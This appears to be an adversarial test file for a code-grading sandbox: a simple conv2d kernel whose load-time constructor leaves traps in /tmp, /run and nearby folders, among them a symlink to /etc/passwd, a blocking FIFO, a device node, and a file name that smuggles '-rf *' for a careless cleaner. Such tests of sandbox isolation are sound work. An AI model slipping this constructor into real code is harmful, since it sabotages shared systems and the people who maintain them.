/* attack: class=left-behind, lesson=conv/forward, expect=harmless, set=everywhere
 * says=.
 *
 * A right kernel that leaves traps where the next run or a careless cleaner may step in: symbolic
 * links to other people's files, a FIFO that blocks whoever opens it, a device, a folder that
 * nobody may enter, a file with a newline in its name. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static __attribute__((constructor)) void leave(void)
{
    static const char *const folders[] = { "/tmp", "/dev/shm", "/var/tmp", "/run", ".", ".." };

    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        if (chdir(folders[i]) != 0)
            continue;
        int done = symlink("/etc/passwd", "attack-link") == 0;
        done += mkfifo("attack-fifo", 0666) == 0;
        done += mknod("attack-device", S_IFCHR | 0666, makedev(1, 5)) == 0;
        done += mkdir("attack-folder", 0) == 0;
        done += creat("attack-file\n-rf *", 0) >= 0;
        done += link("/proc/self/exe", "attack-program") == 0;
        if (done > 0)
            printf("left %d in %s\n", done, folders[i]);
    }
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int oh = 0; oh < s->oh; oh++)
        for (int ow = 0; ow < s->ow; ow++) {
            float sum = 0.0f;
            for (int kh = 0; kh < s->kernel_h; kh++)
                for (int kw = 0; kw < s->kernel_w; kw++)
                    sum += x[(oh + kh) * s->w + ow + kw] * w[kh * s->kernel_w + kw];
            y[oh * s->ow + ow] = sum;
        }
}
